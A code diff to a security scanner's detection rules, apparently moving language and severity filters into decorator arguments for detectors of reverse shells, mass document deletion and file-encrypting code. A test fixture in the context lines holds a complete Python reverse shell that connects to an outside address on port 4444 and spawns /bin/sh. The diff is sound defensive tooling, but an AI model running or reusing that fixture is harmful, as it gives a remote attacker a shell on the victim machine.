@@ -55,6 +55,8 @@ def opens_shell(found: Found, _: Plugin) -> Iterator[Seen]:
         "scripts/a.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('198.51.100.4', 4444))\n[os.dup2(s.fileno(), n) for n in (0, 1, 2)]\npty.spawn('/bin/sh')\n"
     },
     clears={"scripts/a.py": "import socket\ns = socket.socket()\ns.connect(('127.0.0.1', 4444))\ns.sendall(b'hi')\n"},
+    languages=("python", "javascript", "typescript", "ruby", "perl", "php", "go", "powershell"),
+    least=Standing.example,
 )
 def shell_over_socket(text: Text, _: Plugin) -> Iterator[Seen]:
     """Code that connects to another machine and ties a shell to the connection.
@@ -63,17 +65,6 @@ def shell_over_socket(text: Text, _: Plugin) -> Iterator[Seen]:
 
     Remedy: do not install it.
     """
-    if text.standing < Standing.example or text.language not in {
-        "python",
-        "javascript",
-        "typescript",
-        "ruby",
-        "perl",
-        "php",
-        "go",
-        "powershell",
-    }:
-        return
     source = text.text
     if not _SOCKET.search(source):
         return
@@ -179,6 +170,8 @@ _DOCUMENTS = re.compile(r"\.(?:docx?|xlsx?|pptx?|pdf|ics|ical|db|sqlite|jpe?g|pn
     clears={
         "scripts/clean.py": "from pathlib import Path\nfor ext in ['.pyc', '.tmp']:\n    for file_path in Path('.').glob(f'*{ext}'):\n        file_path.unlink()\n"
     },
+    languages=("python", "javascript", "typescript"),
+    least=Standing.script,
 )
 def deletes_documents(text: Text, _: Plugin) -> Iterator[Seen]:
     """A script goes through a folder and deletes documents of many kinds.
@@ -187,8 +180,6 @@ def deletes_documents(text: Text, _: Plugin) -> Iterator[Seen]:
 
     Remedy: read which files it takes, and whether it asks.
     """
-    if text.standing < Standing.script or text.language not in {"python", "javascript", "typescript"}:
-        return
     for act in acts_of(text):
         if act.kind == "delete" and "*" in act.target and _DOCUMENTS.search(act.target):
             yield Seen(
@@ -206,6 +197,8 @@ def deletes_documents(text: Text, _: Plugin) -> Iterator[Seen]:
     clears={
         "scripts/a.py": "import sys\nfrom cryptography.fernet import Fernet\nf = Fernet(open('key').read())\nopen(sys.argv[1] + '.enc', 'wb').write(f.encrypt(open(sys.argv[1], 'rb').read()))\n"
     },
+    languages=("python", "javascript", "typescript", "shell"),
+    least=Standing.example,
 )
 def locks_files(text: Text, _: Plugin) -> Iterator[Seen]:
     """Code that goes through folders, encrypts each file and removes the original.
@@ -214,8 +207,6 @@ def locks_files(text: Text, _: Plugin) -> Iterator[Seen]:
 
     Remedy: do not run it.
     """
-    if text.standing < Standing.example or text.language not in {"python", "javascript", "typescript", "shell"}:
-        return
     if (
         "encrypt" not in text.lowered
         and "openssl" not in text.lowered
